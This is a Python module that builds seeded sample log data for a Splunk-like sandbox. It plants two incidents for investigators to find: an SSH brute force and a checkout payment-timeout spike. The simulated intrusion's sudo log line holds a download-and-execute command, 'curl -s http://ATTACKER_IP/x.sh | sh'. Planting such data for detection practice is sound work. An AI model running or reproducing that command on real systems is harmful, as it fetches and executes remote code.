"""Deterministic sample data for the sandbox splunkd: seeded events over a few realistic indexes.

Everything derives from one `random.Random(seed)` and `now`, so a given (seed, count, days, now) always
yields the same events. Two incidents are planted so investigations find something: an SSH brute force
from 203.0.113.7 that ends in a successful login, and a checkout-service payment-timeout spike.
"""

from __future__ import annotations

import gc
import json
import random
import time as _time
from bisect import bisect_right
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from operator import attrgetter

SERVER_NAME = "sandbox-sh"
ATTACKER_IP = "203.0.113.7"


@dataclass(slots=True)
class Event:
    time: float  # epoch seconds
    index: str
    host: str
    source: str
    sourcetype: str
    raw: str  # _raw
    fields: dict[str, str]  # search-time extracted key=value fields
    linecount: int = 1


@dataclass(frozen=True)
class IndexInfo:
    name: str
    datatype: str  # "event" | "metric"
    event_count: int
    size_mb: float
    earliest: float | None
    latest: float | None


class _IndexEvents:
    """One index's events, newest first, with the negated times ascending for bisect."""

    __slots__ = ("events", "neg_times")

    def __init__(self, events: list[Event]) -> None:
        self.events = events
        self.neg_times = [-e.time for e in events]

    def window(self, earliest: float | None, latest: float | None) -> list[Event]:
        # Splunk's window is earliest <= _time < latest.
        lo = 0 if latest is None else bisect_right(self.neg_times, -latest)
        hi = len(self.events) if earliest is None else bisect_right(self.neg_times, -earliest)
        return self.events[lo:hi]


_by_time = attrgetter("time")


class EventStore:
    """Events per index, each list sorted newest first, so time bounds are two bisects."""

    indexes: dict[str, IndexInfo]

    def __init__(self, events_by_index: dict[str, list[Event]], datatypes: dict[str, str]) -> None:
        self._by_index: dict[str, _IndexEvents] = {}
        self.indexes = {}
        for name, events in events_by_index.items():
            events.sort(key=_by_time, reverse=True)
            self._by_index[name] = _IndexEvents(events)
            raw_bytes = sum(len(e.raw) for e in events) + 120 * len(events)  # + per-event index overhead
            self.indexes[name] = IndexInfo(
                name=name,
                datatype=datatypes.get(name, "event"),
                event_count=len(events),
                size_mb=round(raw_bytes / 1_048_576, 3),
                earliest=events[-1].time if events else None,
                latest=events[0].time if events else None,
            )

    def scan(
        self, index_names: Iterable[str], earliest: float | None, latest: float | None
    ) -> Iterator[Event]:
        """Events of the named indexes with earliest <= time < latest, newest first (unknown names: none)."""
        return iter(self.window(index_names, earliest, latest))

    def window(self, index_names: Iterable[str], earliest: float | None, latest: float | None) -> list[Event]:
        """The list behind `scan`; a sort of already-sorted runs merges several indexes in C."""
        slices = [
            self._by_index[name].window(earliest, latest)
            for name in dict.fromkeys(index_names)
            if name in self._by_index
        ]
        slices = [s for s in slices if s]
        if not slices:
            return []
        if len(slices) == 1:
            return slices[0]
        merged = [e for s in slices for e in s]
        merged.sort(key=_by_time, reverse=True)
        return merged

    def __len__(self) -> int:
        return sum(info.event_count for info in self.indexes.values())


# ---------------------------------------------------------------------------------------------------
# Generation

_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
_HOUR_WEIGHT = (
    (0.25,) * 6
    + (0.5, 0.9)
    + (1.6, 1.8, 2.0, 2.0, 1.8, 2.0, 2.0, 1.9, 1.7, 1.4)
    + (0.9, 0.7, 0.6, 0.5, 0.4, 0.3)
)
_SHARES = {"web": 0.42, "app": 0.18, "security": 0.10, "main": 0.10, "os_metrics": 0.12, "_internal": 0.08}


class _Clock:
    """Cheap timestamp formatting: the calendar date is computed once per day, the rest is arithmetic."""

    def __init__(self) -> None:
        self._days: dict[int, tuple[int, int, int]] = {}

    def parts(self, t: float) -> tuple[int, int, int, int, int, int, int]:
        secs = int(t)
        ms = int((t - secs) * 1000)
        day, sod = divmod(secs, 86400)
        ymd = self._days.get(day)
        if ymd is None:
            g = _time.gmtime(day * 86400)
            ymd = self._days[day] = (g.tm_year, g.tm_mon, g.tm_mday)
        hh, rem = divmod(sod, 3600)
        mm, ss = divmod(rem, 60)
        return ymd[0], ymd[1], ymd[2], hh, mm, ss, ms

    def apache(self, t: float) -> str:
        y, mo, d, hh, mm, ss, _ = self.parts(t)
        return f"{d:02d}/{_MONTHS[mo - 1]}/{y}:{hh:02d}:{mm:02d}:{ss:02d} +0000"

    def log4j(self, t: float) -> str:
        y, mo, d, hh, mm, ss, ms = self.parts(t)
        return f"{y}-{mo:02d}-{d:02d} {hh:02d}:{mm:02d}:{ss:02d},{ms:03d}"

    def iso(self, t: float) -> str:
        y, mo, d, hh, mm, ss, ms = self.parts(t)
        return f"{y}-{mo:02d}-{d:02d}T{hh:02d}:{mm:02d}:{ss:02d}.{ms:03d}Z"

    def syslog(self, t: float) -> str:
        _, mo, d, hh, mm, ss, _ = self.parts(t)
        return f"{_MONTHS[mo - 1]} {d:2d} {hh:02d}:{mm:02d}:{ss:02d}"

    def splunkd(self, t: float) -> str:
        y, mo, d, hh, mm, ss, ms = self.parts(t)
        return f"{mo:02d}-{d:02d}-{y} {hh:02d}:{mm:02d}:{ss:02d}.{ms:03d} +0000"

    def windows(self, t: float) -> str:
        y, mo, d, hh, mm, ss, _ = self.parts(t)
        return f"{mo:02d}/{d:02d}/{y} {(hh % 12) or 12:02d}:{mm:02d}:{ss:02d} {'AM' if hh < 12 else 'PM'}"


def _times(rng: random.Random, n: int, start: float, end: float, weighted: bool = True) -> list[float]:
    """n sorted timestamps in [start, end), denser in working hours and on weekdays when weighted."""
    if n <= 0:
        return []
    if not weighted:
        span = end - start
        r = rng.random
        return sorted(int((start + r() * span) * 1000) / 1000 for _ in range(n))
    first = int(start // 3600) * 3600
    buckets = list(range(first, int(end) + 1, 3600))
    cum: list[float] = []
    total = 0.0
    for b in buckets:
        g = _time.gmtime(b)
        total += _HOUR_WEIGHT[g.tm_hour] * (0.45 if g.tm_wday >= 5 else 1.0)
        cum.append(total)
    r = rng.random
    out = []
    for b in rng.choices(buckets, cum_weights=cum, k=n):
        t = b + r() * 3600
        if t < start or t >= end:
            t = start + r() * (end - start)
        out.append(int(t * 1000) / 1000)
    out.sort()
    return out


_USER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/8.5.0",
    "python-requests/2.32.3",
)
_UA_WEIGHTS = (30, 18, 8, 16, 12, 5, 2, 2)
_REFERERS = (
    "-",
    "https://www.google.com/",
    "https://shop.example.com/",
    "https://shop.example.com/cart",
    "-",
)
_USERS = ("alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy")
_SERVICES = (
    "checkout-service",
    "payment-service",
    "inventory-service",
    "auth-service",
    "search-service",
    "notification-service",
)
_JSON_SERVICES = frozenset({"search-service", "notification-service"})
_STACKS = {
    "checkout-service": (
        "com.example.checkout.PaymentGatewayException: Timeout after 30000ms calling https://pay.example.net/v2/charge",
        "\tat com.example.checkout.PaymentClient.charge(PaymentClient.java:142)",
        "\tat com.example.checkout.CheckoutService.placeOrder(CheckoutService.java:88)",
        "\tat com.example.checkout.CheckoutController.post(CheckoutController.java:51)",
        "\tat java.base/java.lang.Thread.run(Thread.java:1583)",
    ),
    "payment-service": (
        "java.net.SocketTimeoutException: Read timed out",
        "\tat java.base/sun.nio.ch.NioSocketImpl.timedRead(NioSocketImpl.java:288)",
        "\tat com.example.payment.GatewayClient.post(GatewayClient.java:77)",
        "\tat com.example.payment.ChargeHandler.handle(ChargeHandler.java:45)",
    ),
    "inventory-service": (
        "java.sql.SQLTransientConnectionException: HikariPool-1 - Connection is not available, request timed out after 30000ms.",
        "\tat com.zaxxer.hikari.pool.HikariPool.createTimeoutException(HikariPool.java:696)",
        "\tat com.example.inventory.StockRepository.reserve(StockRepository.java:64)",
        "\tat com.example.inventory.ReservationService.reserve(ReservationService.java:39)",
    ),
    "auth-service": (
        "io.jsonwebtoken.security.SignatureException: JWT signature does not match locally computed signature.",
        "\tat io.jsonwebtoken.impl.DefaultJwtParser.parse(DefaultJwtParser.java:411)",
        "\tat com.example.auth.TokenVerifier.verify(TokenVerifier.java:58)",
    ),
}


class _Generator:
    def __init__(self, seed: int, now: float, days: int) -> None:
        self.rng = random.Random(seed)
        self.r = self.rng.random
        self.now = now
        self.start = now - days * 86400
        self.clock = _Clock()
        r = self.r
        self.client_ips = [
            f"{(24, 66, 71, 73, 98, 104, 142, 185, 188, 212)[int(r() * 10)]}.{int(r() * 254) + 1}."
            f"{int(r() * 254) + 1}.{int(r() * 254) + 1}"
            for _ in range(600)
        ]
        self.uas = self.rng.choices(_USER_AGENTS, weights=_UA_WEIGHTS, k=1000)
        self.seq = 0

    def pick(self, seq):  # a uniform choice without random.choice's overhead
        return seq[int(self.r() * len(seq))]

    def skewed(self, seq):  # a few values dominate, like real client IPs
        x = self.r()
        return seq[int(len(seq) * x * x * x)]

    # -- web: Apache combined access logs --------------------------------------------------------
    def web(self, t: float, spike: bool = False) -> Event:
        r = self.r
        host = ("web-01", "web-02", "web-03", "web-04")[int(r() * 4)]
        ip = self.skewed(self.client_ips)
        x = r()
        if spike:
            method, path, status = "POST", "/checkout", ("502", "504", "502", "500")[int(r() * 4)]
        else:
            if x < 0.22:
                path = f"/products/{int(r() * 5000) + 1000}"
            elif x < 0.34:
                path = ("/", "/index.html")[int(r() * 2)]
            elif x < 0.50:
                path = self.pick(
                    ("/static/css/main.css", "/static/js/app.js", "/images/logo.png", "/favicon.ico")
                )
            elif x < 0.60:
                path = f"/search?q={self.pick(('shoes', 'laptop', 'coffee', 'tent', 'headphones', 'lamp'))}"
            elif x < 0.68:
                path = "/cart"
            elif x < 0.74:
                path = "/checkout"
            elif x < 0.82:
                path = f"/api/v1/orders/{int(r() * 90000) + 10000}"
            elif x < 0.90:
                path = "/login"
            elif x < 0.97:
                path = "/api/v1/recommendations"
            else:
                path = self.pick(("/wp-login.php", "/.env", "/admin/config.php", "/phpmyadmin/"))
            method = (
                "POST" if path in ("/login", "/checkout") and r() < 0.6 else ("GET" if r() < 0.97 else "HEAD")
            )
            y = r()
            five_xx = 0.11 if host == "web-03" else 0.03
            if path[:3] in ("/wp", "/.e", "/ad", "/ph"):
                status = "404"
            elif y < five_xx:
                status = ("500", "502", "503")[int(r() * 3)]
            elif y < five_xx + 0.025:
                status = "404"
            elif path.startswith("/static") and y < 0.35:
                status = "304"
            elif path == "/login" and method == "POST" and y < 0.2:
                status = "401"
            elif y > 0.985:
                status = "301"
            else:
                status = "200"
        size = "0" if status == "304" else str(int(200 + r() * r() * 48000))
        ua = self.uas[int(r() * 1000)]
        ref = self.pick(_REFERERS)
        req_ms = str(int(2 + r() * r() * (9000 if status[0] == "5" else 400)))
        raw = f'{ip} - - [{self.clock.apache(t)}] "{method} {path} HTTP/1.1" {status} {size} "{ref}" "{ua}" {req_ms}'
        q = path.find("?")
        fields = {
            "clientip": ip,
            "method": method,
            "uri": path,
            "uri_path": path if q < 0 else path[:q],
            "status": status,
            "bytes": size,
            "referer": ref,
            "useragent": ua,
            "req_time_ms": req_ms,
        }
        return Event(t, "web", host, "/var/log/apache2/access.log", "access_combined", raw, fields)

    # -- app: log4j-style lines (multi-line stack traces on ERROR) and JSON lines --------------------
    def app(self, t: float, spike: bool = False) -> Event:
        r = self.r
        service = "checkout-service" if spike else self.pick(_SERVICES)
        host = ("app-01", "app-02", "app-03")[int(r() * 3)]
        x = r()
        level = "ERROR" if spike or x < 0.04 else "WARN" if x < 0.12 else "DEBUG" if x < 0.22 else "INFO"
        message, kv = self.app_message(service, level)
        if service in _JSON_SERVICES:
            doc = {
                "timestamp": self.clock.iso(t),
                "level": level,
                "service": service,
                "message": message,
                **kv,
            }
            raw = json.dumps(doc, separators=(",", ":"))
            fields = {k: str(v) for k, v in doc.items()}
            fields["log_level"] = level  # a props.conf FIELDALIAS would give the JSON logs the same name
            return Event(t, "app", host, f"/var/log/app/{service}.json", "app:json", raw, fields)
        kv_text = " ".join(f"{k}={v}" for k, v in kv.items())
        line = f"{self.clock.log4j(t)} {level} [{service}] {message}" + (f" {kv_text}" if kv_text else "")
        fields = {"log_level": level, "service": service, "message": message}
        fields.update({k: str(v) for k, v in kv.items()})
        linecount = 1
        if level == "ERROR" and service in _STACKS:
            stack = _STACKS[service]
            line = line + "\n" + "\n".join(stack)
            linecount = 1 + len(stack)
            fields["exception"] = stack[0].split(":", 1)[0]
        return Event(t, "app", host, f"/var/log/app/{service}.log", "app:log", line, fields, linecount)

    def app_message(self, service: str, level: str) -> tuple[str, dict[str, object]]:
        r = self.r
        user = self.pick(_USERS)
        if level == "ERROR":
            return {
                "checkout-service": (
                    "PaymentGateway timeout",
                    {"order_id": f"ORD-{int(r() * 900000) + 100000}"},
                ),
                "payment-service": (
                    "Charge failed",
                    {"txn_id": f"TX{int(r() * 1e9):09d}", "gateway": "stripe"},
                ),
                "inventory-service": (
                    "Database connection pool exhausted",
                    {"pool": "inventory-db", "active": 50},
                ),
                "auth-service": ("Token verification failed", {"user": user}),
                "search-service": ("Index shard unavailable", {"shard": int(r() * 12), "latency_ms": 5000}),
                "notification-service": ("SMTP connection refused", {"smtp_host": "smtp.example.com"}),
            }[service]
        if level == "WARN":
            return self.pick(
                (
                    ("Slow query", {"latency_ms": int(800 + r() * 4000), "table": "orders"}),
                    ("Retrying request", {"attempt": int(r() * 3) + 2, "upstream": "payment-service"}),
                    ("Cache miss ratio high", {"ratio": round(0.3 + r() * 0.3, 2)}),
                )
            )
        if level == "DEBUG":
            return "Cache hit", {"key": f"product:{int(r() * 5000) + 1000}"}
        return {
            "checkout-service": (
                "Order placed",
                {
                    "order_id": f"ORD-{int(r() * 900000) + 100000}",
                    "amount": round(5 + r() * 400, 2),
                    "user": user,
                },
            ),
            "payment-service": (
                "Charge authorized",
                {
                    "txn_id": f"TX{int(r() * 1e9):09d}",
                    "amount": round(5 + r() * 400, 2),
                    "latency_ms": int(80 + r() * 600),
                },
            ),
            "inventory-service": (
                "Stock reserved",
                {"sku": f"SKU-{int(r() * 90000) + 10000}", "qty": int(r() * 4) + 1},
            ),
            "auth-service": ("Login succeeded", {"user": user, "method": "password"}),
            "search-service": (
                "Query served",
                {"hits": int(r() * 300), "latency_ms": int(5 + r() * r() * 900)},
            ),
            "notification-service": ("Email queued", {"template": "order_confirmation", "user": user}),
        }[service]

    # -- security: linux_secure (sshd, sudo) and Windows logon events ------------------------------
    def secure_line(self, t: float, host: str, process: str, text: str, fields: dict[str, str]) -> Event:
        pid = str(1000 + int(self.r() * 60000))
        raw = f"{self.clock.syslog(t)} {host} {process}[{pid}]: {text}"
        fields["process"] = process
        fields["pid"] = pid
        fields.setdefault("app", process)
        source = "/var/log/secure" if host.startswith(("db-", "bastion")) else "/var/log/auth.log"
        return Event(t, "security", host, source, "linux_secure", raw, fields)

    def security(self, t: float) -> Event:
        r = self.r
        x = r()
        if x < 0.22:
            return self.windows_logon(t)
        host = self.pick(("bastion-01", "db-01", "db-02", "app-01", "app-02", "app-03", "web-01", "web-02"))
        user = self.pick((*_USERS, "deploy", "deploy", "jenkins"))
        src = f"10.0.{int(r() * 4) + 1}.{int(r() * 200) + 10}"
        port = str(30000 + int(r() * 35000))
        y = r()
        if y < 0.38:
            how = "publickey" if user in ("deploy", "jenkins") or r() < 0.5 else "password"
            text = f"Accepted {how} for {user} from {src} port {port} ssh2"
            f = {"user": user, "src_ip": src, "src_port": port, "action": "success", "auth_method": how}
        elif y < 0.50:
            text = f"Failed password for {user} from {src} port {port} ssh2"
            f = {
                "user": user,
                "src_ip": src,
                "src_port": port,
                "action": "failure",
                "auth_method": "password",
            }
        elif y < 0.60:
            bad = self.pick(("admin", "test", "oracle", "guest", "ubuntu", "pi"))
            src = f"198.51.100.{int(r() * 250) + 1}"
            text = f"Failed password for invalid user {bad} from {src} port {port} ssh2"
            f = {"user": bad, "src_ip": src, "src_port": port, "action": "failure", "auth_method": "password"}
        elif y < 0.82:
            text = f"pam_unix(sshd:session): session opened for user {user}(uid={1000 + _USERS.count(user)}) by (uid=0)"
            f = {"user": user, "action": "success"}
        else:
            cmd = self.pick(
                (
                    "/usr/bin/systemctl restart nginx",
                    "/usr/bin/journalctl -u app",
                    "/usr/bin/apt-get upgrade -y",
                )
            )
            text = f"  {user} : TTY=pts/{int(r() * 4)} ; PWD=/home/{user} ; USER=root ; COMMAND={cmd}"
            return self.secure_line(
                t, host, "sudo", text, {"user": user, "action": "success", "command": cmd}
            )
        return self.secure_line(t, host, "sshd", text, f)

    def windows_logon(self, t: float) -> Event:
        r = self.r
        host = ("dc-01", "dc-02")[int(r() * 2)]
        user = self.pick(_USERS)
        src = f"10.0.{int(r() * 4) + 1}.{int(r() * 200) + 10}"
        code = "4625" if r() < 0.12 else "4624"
        ok = code == "4624"
        raw = "\n".join(
            (
                self.clock.windows(t),
                "LogName=Security",
                f"EventCode={code}",
                "EventType=0",
                f"ComputerName={host}.corp.example.com",
                "SourceName=Microsoft Windows security auditing.",
                "Type=Information",
                f"RecordNumber={int(t) % 10_000_000 + 1_000_000}",
                f"Keywords=Audit {'Success' if ok else 'Failure'}",
                "TaskCategory=Logon",
                "OpCode=Info",
                f"Message={'An account was successfully logged on.' if ok else 'An account failed to log on.'}",
                f"Account Name:\t\t{user}",
                f"Source Network Address:\t{src}",
                f"Logon Type:\t\t{'3' if r() < 0.7 else '10'}",
            )
        )
        fields = {
            "LogName": "Security",
            "EventCode": code,
            "ComputerName": f"{host}.corp.example.com",
            "user": user,
            "src_ip": src,
            "action": "success" if ok else "failure",
            "app": "win:logon",
        }
        return Event(
            t, "security", host, "WinEventLog:Security", "WinEventLog", raw, fields, raw.count("\n") + 1
        )

    def brute_force(self, t: float, last: bool) -> list[Event]:
        r = self.r
        port = str(30000 + int(r() * 35000))
        if last:  # the attack succeeds, then the intruder escalates
            text = f"Accepted password for deploy from {ATTACKER_IP} port {port} ssh2"
            f = {"user": "deploy", "src_ip": ATTACKER_IP, "src_port": port, "action": "success"}
            f["auth_method"] = "password"
            cmd = f"/bin/bash -c curl -s http://{ATTACKER_IP}/x.sh | sh"
            sudo = f"  deploy : TTY=pts/3 ; PWD=/home/deploy ; USER=root ; COMMAND={cmd}"
            return [
                self.secure_line(t, "bastion-01", "sshd", text, f),
                self.secure_line(
                    t + 41.5,
                    "bastion-01",
                    "sudo",
                    sudo,
                    {"user": "deploy", "action": "success", "command": cmd},
                ),
            ]
        user = self.pick(
            ("root", "admin", "deploy", "test", "oracle", "postgres", "ubuntu", "git", "jenkins")
        )
        invalid = user not in ("root", "deploy", "jenkins")
        text = f"Failed password for {'invalid user ' if invalid else ''}{user} from {ATTACKER_IP} port {port} ssh2"
        f = {
            "user": user,
            "src_ip": ATTACKER_IP,
            "src_port": port,
            "action": "failure",
            "auth_method": "password",
        }
        return [self.secure_line(t, "bastion-01", "sshd", text, f)]

    # -- main: syslog from the infrastructure hosts ------------------------------------------------
    def syslog(self, t: float) -> Event:
        r = self.r
        host = self.pick(("db-01", "db-02", "cache-01", "mail-01", "bastion-01", "ntp-01"))
        x = r()
        if host == "mail-01" and x < 0.7:
            qid = f"{int(r() * 0xFFFFFFF):07X}"
            rcpt = f"{self.pick(_USERS)}@example.com"
            status = "sent" if r() < 0.93 else "deferred"
            process, text = (
                "postfix/smtp",
                (
                    f"{qid}: to=<{rcpt}>, relay=mx.example.com[192.0.2.25]:25, delay={round(r() * 3, 2)}, "
                    f"dsn={'2.0.0' if status == 'sent' else '4.4.1'}, status={status}"
                ),
            )
            extra = {"to": rcpt, "status": status}
        elif x < 0.35:
            process, text, extra = "CRON", "(root) CMD (/usr/lib64/sa/sa1 1 1)", {}
        elif x < 0.60:
            n = int(r() * 90000) + 1000
            process, text, extra = (
                "systemd",
                f"Started Session {n} of User {self.pick(('deploy', 'root'))}.",
                {},
            )
        elif x < 0.72:
            process, text, extra = "chronyd", "Selected source 192.0.2.123 (ntp.example.net)", {}
        elif x < 0.80 and host.startswith("db-"):
            pct = int(85 + r() * 14)
            process, text = (
                "kernel",
                f"EXT4-fs warning (device nvme1n1p1): disk usage {pct}% on /var/lib/postgresql",
            )
            extra = {"severity": "warning"}
        elif x < 0.83:
            process, text = (
                "kernel",
                f"Out of memory: Killed process {int(r() * 30000) + 1000} (java) total-vm:8123456kB",
            )
            extra = {"severity": "error"}
        else:
            process, text, extra = "systemd", "Starting Daily apt upgrade and clean activities...", {}
        pid = str(100 + int(r() * 40000))
        raw = f"{self.clock.syslog(t)} {host} {process}[{pid}]: {text}"
        source = "/var/log/messages" if host.startswith("db-") else "/var/log/syslog"
        return Event(t, "main", host, source, "syslog", raw, {"process": process, "pid": pid, **extra})

    # -- _internal: splunkd's own logs ---------------------------------------------------------------
    def internal(self, t: float) -> Event:
        r = self.r
        x = r()
        source = "/opt/splunk/var/log/splunk/splunkd.log"
        if x < 0.5:
            level, component = "INFO", "Metrics"
            kbps = round(r() * 40, 3)
            body = (
                f"group=thruput, name=index_thruput, instantaneous_kbps={kbps}, "
                f"instantaneous_eps={round(kbps * 3.1, 3)}, average_kbps={round(kbps * 0.9, 3)}"
            )
            source = "/opt/splunk/var/log/splunk/metrics.log"
            extra = {"group": "thruput", "name": "index_thruput", "instantaneous_kbps": str(kbps)}
        elif x < 0.75:
            level, component = "INFO", "SavedSplunker"
            name = self.pick(("Errors in the last hour", "Failed logins by source", "Web 5xx by host"))
            body = f'savedsearch_id="nobody;search;{name}", search_type="scheduled", user="admin", status=success'
            extra = {"savedsearch_id": f"nobody;search;{name}", "status": "success"}
        elif x < 0.88:
            level, component = "WARN", "DateParserVerbose"
            body = (
                "Failed to parse timestamp in first MAX_TIMESTAMP_LOOKAHEAD (128) characters of event. "
                "Defaulting to timestamp of previous event. Context: source=/var/log/app/legacy.log|host=app-02|app:log"
            )
            extra = {}
        elif x < 0.95:
            level, component = "WARN", "HttpListener"
            body = "Socket error from 127.0.0.1:54321 while accessing /services/search/jobs: Broken pipe"
            extra = {}
        else:
            level, component = "ERROR", "TcpOutputFd"
            body = "Connection to host=10.0.9.5:9997 failed"
            extra = {}
        raw = f"{self.clock.splunkd(t)} {level:<5} {component} - {body}"
        fields = {"log_level": level, "component": component, **extra}
        return Event(t, "_internal", SERVER_NAME, source, "splunkd", raw, fields)

    # -- os_metrics: regular samples per host and metric -------------------------------------------
    def metrics(self, n: int) -> list[Event]:
        hosts = ("web-01", "web-02", "web-03", "web-04", "app-01", "app-02", "app-03", "db-01", "db-02")
        names = ("cpu.pct", "mem.used_pct", "disk.used_pct", "net.bytes_in")
        per_series = max(1, n // (len(hosts) * len(names)))
        step = (self.now - self.start) / per_series
        r = self.r
        out = []
        for hi, host in enumerate(hosts):
            hot = host == "db-02"
            for name in names:
                base = {"cpu.pct": 25 + hi * 3, "mem.used_pct": 55 + hi, "disk.used_pct": 40 + hi * 4}.get(
                    name, 0
                )
                for k in range(per_series):
                    t = int((self.start + (k + r()) * step) * 1000) / 1000
                    hour = (t % 86400) / 3600
                    busy = 1.0 if 8 <= hour < 18 else 0.4
                    if name == "cpu.pct":
                        value = base * busy + r() * 15 + (45 if hot and self.now - t < 6 * 3600 else 0)
                    elif name == "net.bytes_in":
                        value = (2e5 + r() * 8e5) * busy * (3 if host.startswith("web") else 1)
                    else:
                        value = base + r() * 5 + (k / per_series) * (8 if name == "disk.used_pct" else 0)
                    value = round(min(value, 100.0) if name != "net.bytes_in" else value, 2)
                    sval = repr(value)
                    raw = f"{name}={sval}"
                    fields = {"metric_name": name, "_value": sval}
                    out.append(
                        Event(t, "os_metrics", host, "os_metrics_collector", "collectd_http", raw, fields)
                    )
        return out


def build_event_store(
    *, seed: int = 42, count: int = 250_000, days: int = 7, now: float | None = None
) -> EventStore:
    """The sandbox's sample data: about `count` events over the last `days` days ending at `now`."""
    was_enabled = gc.isenabled()
    gc.disable()  # hundreds of thousands of new, long-lived objects: collecting meanwhile only costs time
    try:
        return _build(seed, count, days, _time.time() if now is None else float(now))
    finally:
        if was_enabled:
            gc.enable()


def _build(seed: int, count: int, days: int, now: float) -> EventStore:
    gen = _Generator(seed, now, days)
    start = gen.start
    by_index: dict[str, list[Event]] = {name: [] for name in _SHARES}

    def fill(
        index: str, n: int, make: Callable[[float], Event], lo: float = start, weighted: bool = True
    ) -> None:
        by_index[index].extend(make(t) for t in _times(gen.rng, n, max(lo, start), now, weighted))

    burst = max(20, count // 100)  # the brute force
    spike = max(10, count // 160)  # the checkout payment-timeout spike
    fill("web", int(count * _SHARES["web"]) - spike // 2, gen.web)
    fill("app", int(count * _SHARES["app"]) - spike, gen.app)
    fill("security", int(count * _SHARES["security"]) - burst, gen.security)
    fill("main", int(count * _SHARES["main"]), gen.syslog)
    fill("_internal", int(count * _SHARES["_internal"]), gen.internal)
    by_index["os_metrics"] = gen.metrics(int(count * _SHARES["os_metrics"]))

    spike_lo, spike_hi = now - 2 * 3600, now - 3600
    for t in _times(gen.rng, spike, spike_lo, spike_hi, weighted=False):
        by_index["app"].append(gen.app(t, spike=True))
    for t in _times(gen.rng, spike // 2, spike_lo, spike_hi, weighted=False):
        by_index["web"].append(gen.web(t, spike=True))
    attack = _times(gen.rng, burst - 1, now - 150 * 60, now - 35 * 60, weighted=False)
    for t in attack:
        by_index["security"].extend(gen.brute_force(t, last=False))
    by_index["security"].extend(gen.brute_force(now - 33 * 60 + 0.25, last=True))

    datatypes = {"os_metrics": "metric"}
    return EventStore(by_index, datatypes)
